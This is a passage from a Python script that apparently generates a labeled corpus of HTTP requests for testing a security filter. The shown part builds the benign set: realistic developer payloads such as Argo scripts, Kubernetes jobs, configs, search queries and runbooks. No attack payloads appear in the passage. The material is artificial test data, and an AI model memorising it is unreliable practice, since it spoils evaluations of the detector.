                         "source": "set -euo pipefail\nfor t in orders payments refunds; do\n  psql \"$DATABASE_URL\" -c \"\\\\copy (SELECT * FROM ${t} WHERE created_at::date = '{{inputs.parameters.date}}') TO '/tmp/${t}.csv' CSV HEADER\"\n"
                                   "  gzip -9 \"/tmp/${t}.csv\"\n  aws s3 cp \"/tmp/${t}.csv.gz\" \"s3://etl-example/${t}/{{inputs.parameters.date}}/\"\ndone\n",
                         "env": [{"name": "DATABASE_URL", "valueFrom": {"secretKeyRef": {"name": "etl-db", "key": "url"}}}]}}]}}
    c.add("argowf-template-bash-script", D, "POST", "/api/v1/workflow-templates/argo", aw, xhr(aw, "/workflow-templates/argo"), js({"template": wt}), "application/json")
    wt2 = {"metadata": {"name": "report-py", "namespace": "argo"}, "spec": {"entrypoint": "report", "templates": [{"name": "report", "script": {
        "image": "python:3.12-slim", "command": ["python"],
        "source": "import json, urllib.request\n\nurl = 'https://prometheus.ops.example.com/api/v1/query?query=up'\nwith urllib.request.urlopen(url, timeout=10) as r:\n"
                  "    data = json.load(r)\ndown = [m['metric']['instance'] for m in data['data']['result'] if m['value'][1] == '0']\nprint(json.dumps({'down': down}))\n"}}]}}
    c.add("argowf-template-python-script", D, "POST", "/api/v1/workflow-templates/argo", aw, [bearer()], js({"template": wt2}), "application/json", ua=UA_TOOLS["python"])
    c.add("argowf-submit-container-args", D, "POST", "/api/v1/workflows/argo", aw, xhr(aw, "/workflows/argo"),
          js({"workflow": {"metadata": {"generateName": "backfill-"}, "spec": {"entrypoint": "backfill", "arguments": {"parameters": [{"name": "from", "value": "2024-05-01"}, {"name": "to", "value": "2024-05-31"}]},
              "templates": [{"name": "backfill", "inputs": {"parameters": [{"name": "from"}, {"name": "to"}]},
                             "container": {"image": "registry.example.com/data/etl:3.2.0", "command": ["/bin/sh", "-c"],
                                           "args": ["etl backfill --from {{inputs.parameters.from}} --to {{inputs.parameters.to}} --parallel 4 && echo done > /tmp/status"]}}]}}}),
          "application/json")
    cron = ("apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: pg-backup\n  namespace: data\nspec:\n  schedule: \"15 2 * * *\"\n  jobTemplate:\n    spec:\n      template:\n"
            "        spec:\n          restartPolicy: OnFailure\n          containers:\n          - name: backup\n            image: postgres:16\n            command: [\"/bin/sh\", \"-c\"]\n"
            "            args:\n            - pg_dump -h \"$PGHOST\" -U \"$PGUSER\" -Fc orders | gzip > /backup/orders-$(date +%F).dump.gz && find /backup -mtime +14 -delete\n")
    c.add("k8s-apply-cronjob-backup", D, "PATCH", "/apis/batch/v1/namespaces/data/cronjobs/pg-backup?fieldManager=kubectl&force=true", k, [k8s_hdr()], cron,
          "application/apply-patch+yaml", ua=UA_TOOLS["kubectl"])
    job = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "migrate-2-14-3", "namespace": "payments"}, "spec": {"template": {"spec": {
        "restartPolicy": "Never",
        "initContainers": [{"name": "wait-db", "image": "busybox:1.36", "command": ["sh", "-c", "until nc -z postgres.data 5432; do echo waiting for db; sleep 2; done"]}],
        "containers": [{"name": "migrate", "image": "harbor.platform.example.com/platform/api:2.14.3", "command": ["/usr/local/bin/api", "migrate", "up"]}]}}}}
    c.add("k8s-create-migration-job", D, "POST", "/apis/batch/v1/namespaces/payments/jobs", k, [k8s_hdr()], js(job), "application/json", ua=UA_TOOLS["kubectl-mac"])
    c.add("k8s-dashboard-debug-pod", D, "POST", "/api/v1/appdeployment", H["dash"], xhr(H["dash"], "/#/create?namespace=payments", None, [["X-CSRF-TOKEN", b64u(alnum(30))]]),
          js({"containerImage": "nicolaka/netshoot:v0.12", "name": "netdebug", "namespace": "payments", "replicas": 1, "runAsPrivileged": False,
              "containerCommand": "/bin/sh", "containerCommandArgs": "-c 'trap : TERM INT; sleep infinity & wait'", "labels": [{"key": "app", "value": "netdebug"}]}),
          "application/json")
    nginx = ("server {\n  listen 8080;\n  location /healthz { return 200 'ok'; }\n  location ~* \\.(js|css|png|svg)$ {\n    expires 7d;\n    add_header Cache-Control \"public, immutable\";\n  }\n"
             "  location /api/ {\n    proxy_pass http://api:8080;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n  }\n}\n")
    c.add("k8s-configmap-nginx-conf", D, "PATCH", "/api/v1/namespaces/checkout/configmaps/web-nginx", k, [k8s_hdr()], js({"data": {"default.conf": nginx}}),
          "application/merge-patch+json", ua=UA_TOOLS["kubectl"])
    ef = ("apiVersion: networking.istio.io/v1alpha3\nkind: EnvoyFilter\nmetadata:\n  name: add-request-id-header\n  namespace: checkout\nspec:\n  configPatches:\n  - applyTo: HTTP_FILTER\n"
          "    patch:\n      operation: INSERT_BEFORE\n      value:\n        name: envoy.lua\n        typed_config:\n          '@type': type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua\n"
          "          inlineCode: |\n            function envoy_on_response(handle)\n              local id = handle:headers():get('x-request-id')\n"
          "              if id then handle:headers():add('x-correlation-id', id) end\n            end\n")
    c.add("istio-envoyfilter-lua-header", D, "PATCH", "/apis/networking.istio.io/v1alpha3/namespaces/checkout/envoyfilters/add-request-id-header?fieldManager=kubectl&force=true",
          k, [k8s_hdr()], ef, "application/apply-patch+yaml", ua=UA_TOOLS["kubectl"])
    c.add("vault-agent-template-configmap", D, "PATCH", "/api/v1/namespaces/payments/configmaps/vault-agent-config", k, [k8s_hdr()],
          js({"data": {"config.hcl": "template {\n  destination = \"/vault/secrets/db.env\"\n  contents = <<EOT\n{{- with secret \"secret/data/apps/payments/config\" -}}\n"
                                     "DB_USER={{ .Data.data.db_user }}\nDB_PASSWORD={{ .Data.data.db_password }}\n{{- end }}\nEOT\n}\n"}}),
          "application/merge-patch+json", ua=UA_TOOLS["kubectl"])


def dev_misc(c):
    D = "dev-content"
    kb, es = H["kibana"], H["es"]
    c.add("kibana-console-es-sql", D, "POST", "/api/console/proxy?path=_sql%3Fformat%3Dtxt&method=POST", kb, kibana_hdrs("/app/dev_tools#/console"),
          js({"query": "SELECT \"kubernetes.namespace\" AS ns, COUNT(*) AS errors FROM \"logs-*\" WHERE \"log.level\" = 'error' AND \"@timestamp\" > NOW() - INTERVAL 1 HOUR GROUP BY ns ORDER BY errors DESC LIMIT 10"}),
          "application/json")
    c.add("kibana-runtime-field-painless", D, "PUT", "/api/index_patterns/index_pattern/logs-star/runtime_field", kb, kibana_hdrs("/app/management/kibana/dataViews"),
          js({"name": "route_group", "runtimeField": {"type": "keyword", "script": {"source":
              "if (doc['url.path'].size() > 0 && doc['url.path'].value.startsWith('/api')) { emit('api'); } else { emit('web'); }"}}}),
          "application/json")
    c.add("es-update-by-query-painless", D, "POST", "/logs-payments-2024.06.03/_update_by_query?conflicts=proceed&refresh=true", es,
          [["Authorization", "ApiKey " + b64(alnum(20) + ":" + alnum(22))]],
          js({"script": {"lang": "painless", "source": "if (ctx._source.tags == null) { ctx._source.tags = []; } ctx._source.tags.add(params.tag)", "params": {"tag": "incident-4821"}},
              "query": {"range": {"@timestamp": {"gte": "2024-06-03T06:00:00Z", "lte": "2024-06-03T07:00:00Z"}}}}), "application/json", ua=UA_TOOLS["curl"])
    c.add("es-watcher-mustache", D, "PUT", "/_watcher/watch/payments-errors", es, [["Authorization", "ApiKey " + b64(alnum(20) + ":" + alnum(22))]],
          js({"trigger": {"schedule": {"interval": "5m"}},
              "input": {"search": {"request": {"indices": ["logs-payments-*"], "body": {"query": {"bool": {"filter": [{"term": {"log.level": "error"}}, {"range": {"@timestamp": {"gte": "now-5m"}}}]}}}}}},
              "condition": {"script": {"source": "return ctx.payload.hits.total.value > params.threshold", "params": {"threshold": 25}}},
              "actions": {"notify": {"webhook": {"method": "POST", "url": "https://hooks.slack.example.com/services/T000/B000/XXXX",
                                                 "body": "{\"text\": \"{{ctx.payload.hits.total.value}} Fehler in payments in den letzten 5 Minuten ({{ctx.watch_id}})\"}"}}}}),
          "application/json", ua=UA_TOOLS["curl"])
    vega = js({"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "title": "Requests per status class",
               "data": {"url": {"%context%": True, "%timefield%": "@timestamp", "index": "logs-*",
                                "body": {"aggs": {"t": {"date_histogram": {"field": "@timestamp", "interval": {"%autointerval%": True}}}}, "size": 0}},
                        "format": {"property": "aggregations.t.buckets"}},
               "transform": [{"calculate": "datum.doc_count > 1000 ? 'high' : 'normal'", "as": "load"}],
               "mark": "bar", "encoding": {"x": {"field": "key", "type": "temporal"}, "y": {"field": "doc_count", "type": "quantitative"}, "color": {"field": "load"}}}, True)
    c.add("kibana-vega-lite-spec", D, "POST", "/api/saved_objects/visualization", kb, kibana_hdrs("/app/visualize"),
          js({"attributes": {"title": "Requests by load", "visState": js({"type": "vega", "params": {"spec": vega}})}}), "application/json")
    c.add("opensearch-ppl", D, "POST", "/api/console/proxy?path=_plugins%2F_ppl&method=POST", H["osd"], kibana_hdrs("/app/dev_tools#/console", host=H["osd"]),
          js({"query": "source=logs-* | where status >= 500 and like(request, '/api/v1/%') | stats count() as errors by host | sort - errors | head 10"}),
          "application/json")
    nd = H["node"]
    ui = xhr("admin.example.com", "/kb/new", None, [bearer()])
    for title, body in [
        ("Runbook: Postgres failover", "## Check replication lag\n```sql\nSELECT client_addr, state, replay_lag FROM pg_stat_replication;\n```\n\n## Promote replica\n```bash\nkubectl -n data exec -it pg-1 -- patronictl failover --candidate pg-1 --force\n```\n"),
        ("Embedding a Grafana panel in the wiki", "Use an iframe with the solo URL:\n\n```html\n<iframe src=\"https://grafana.ops.example.com/d-solo/k8s-nodes/nodes?orgId=1&panelId=4&theme=light\" width=\"600\" height=\"300\" frameborder=\"0\"></iframe>\n```\n\nAnonymous access must be enabled for the `viewer` org."),
        ("Regex für erlaubte Hosts", "Die Allow-List im Gateway prüft Hostnamen so:\n\n```\n^(?:[a-z0-9-]+\\.)*example\\.(?:com|org|net)$\n```\n\nAchtung: ohne `^` und `$` matcht auch `example.com.evil.tld`."),
        ("Windows-Agenten neu starten", "Auf den Build-Agenten:\n\n```powershell\nGet-Service jenkins-agent | Restart-Service -Force\nGet-EventLog -LogName Application -Newest 20 | Where-Object { $_.Source -like '*jenkins*' }\n```"),
        ("Listing pods from Go", "```go\ncmd := exec.Command(\"kubectl\", \"get\", \"pods\", \"-n\", ns, \"-o\", \"json\")\nout, err := cmd.Output()\nif err != nil {\n    return fmt.Errorf(\"kubectl: %w\", err)\n}\n```\nPrefer client-go in production code, though."),
        ("Fetching alerts in the browser", "```js\nconst res = await fetch('/api/v2/alerts?active=true', { credentials: 'include' });\nconst alerts = await res.json();\ndocument.querySelector('#count').textContent = alerts.length;\n```"),
    ]:
        c.add("kb-article-code", D, "POST", "/api/admin/kb/articles", nd, ui, js({"title": title, "body": body, "tags": ["runbook"], "lang": "de" if "ü" in title or "Windows" in title else "en"}),
              "application/json")
    c.add("consul-template-kv", D, "PUT", "/v1/kv/templates/haproxy.ctmpl", H["consul"], [["X-Consul-Token", fake_uuid()]],
          "backend web\n  balance roundrobin\n{{ range service \"web\" }}  server {{ .Node }}-{{ .Port }} {{ .Address }}:{{ .Port }} check\n{{ end }}",
          "text/plain", ua=UA_TOOLS["curl"])
    c.add("consul-kv-maintenance-script", D, "PUT", "/v1/kv/scripts/drain-node.sh", H["consul"], [["X-Consul-Token", fake_uuid()]],
          "#!/usr/bin/env bash\nset -euo pipefail\nnode=\"$1\"\nkubectl cordon \"$node\"\nkubectl drain \"$node\" --ignore-daemonsets --delete-emptydir-data --timeout=10m\n"
          "consul maint -enable -reason \"drain $node $(date -u +%FT%TZ)\"\n", "text/plain", ua=UA_TOOLS["curl"])
    c.add("keycloak-realm-display-html", D, "PUT", "/admin/realms/platform", H["keycloak"], kc_admin(),
          js({"realm": "platform", "displayName": "Platform SSO", "displayNameHtml": "<div class=\"kc-logo-text\"><span>Platform <b>SSO</b></span></div>",
              "loginTheme": "keycloak.v2", "internationalizationEnabled": True, "supportedLocales": ["en", "de", "fr", "ja"]}), "application/json")
    c.add("spring-config-placeholders", D, "POST", "/admin/config/orders-prod.properties", "config.platform.example.com",
          [bearer()], "spring.datasource.url=jdbc:postgresql://${DB_HOST:localhost}:5432/orders\nspring.datasource.username=${DB_USER}\n"
          "management.endpoints.web.exposure.include=health,info,prometheus\napp.greeting=Hallo ${user.name:Gast}!\n", "text/plain", ua=UA_TOOLS["curl"])
    start = EPOCH * 10 ** 9
    span = {"traceId": hexs(32), "spanId": hexs(16), "name": "SELECT orders", "kind": 3, "startTimeUnixNano": str(start), "endTimeUnixNano": str(start + 48 * 10 ** 6),
            "attributes": [otlp_attr("db.system", "postgresql"), otlp_attr("db.name", "orders"),
                           otlp_attr("db.statement", "SELECT o.id, o.total_cents FROM orders o WHERE o.tenant_id = $1 AND o.created_at > $2 ORDER BY o.created_at DESC LIMIT 50"),
                           otlp_attr("server.address", "postgres.example.com")],
            "events": [{"name": "exception", "timeUnixNano": str(start + 47 * 10 ** 6), "attributes": [
                otlp_attr("exception.type", "org.postgresql.util.PSQLException"), otlp_attr("exception.message", "ERROR: canceling statement due to statement timeout"),
                otlp_attr("exception.stacktrace", "org.postgresql.util.PSQLException: ERROR: canceling statement due to statement timeout\n\tat org.postgresql.core.v3.QueryExecutorImpl.receiveErrorResponse(QueryExecutorImpl.java:2713)\n\tat com.example.orders.OrderRepository.findRecent(OrderRepository.java:88)")]}],
            "status": {"code": 2}}
    c.add("otlp-trace-db-statement", D, "POST", "/v1/traces", H["otel"], [],
          js({"resourceSpans": [{"resource": {"attributes": [otlp_attr("service.name", "orders")]}, "scopeSpans": [{"scope": {"name": "io.opentelemetry.jdbc"}, "spans": [span]}]}]}),
          "application/json", ua=UA_TOOLS["otel-java"])
    c.add("alertmanager-silence-regex-comment", D, "POST", "/api/v2/silences", H["am"], xhr(H["am"], "/#/silences/new"),
          js({"matchers": [{"name": "pod", "value": "backup-[0-9]{8}-[a-z0-9]{5}", "isRegex": True, "isEqual": True}],
              "startsAt": iso(EPOCH, True), "endsAt": iso(EPOCH + 7200, True), "createdBy": "nokafor",
              "comment": "Backup job expected to fail until `pg_dump --exclude-table=audit_log` fix is deployed (runs `sh -c 'pg_dump ... | gzip'`)"}),
          "application/json")


def build_benign():
    c = Corpus("benign")
    ben_grafana(c)
    ben_prometheus(c)
    ben_alertmanager(c)
    ben_kibana(c)
    ben_argo(c)
    ben_jenkins(c)
    ben_git(c)
    ben_harbor(c)
    ben_vault(c)
    ben_keycloak(c)
    ben_consul_etcd(c)
    ben_envoy(c)
    ben_services(c)
    ben_kubernetes(c)
    ben_telemetry(c)
    ben_health_browser(c)
    dev_grafana(c)
    dev_ci(c)
    dev_argo_k8s(c)
    dev_misc(c)
    return c


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-cluster.py attacks|benign\n")
        return 2
    corpus = build_attacks() if argv[1] == "attacks" else build_benign()
    corpus.dump(sys.stdout)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
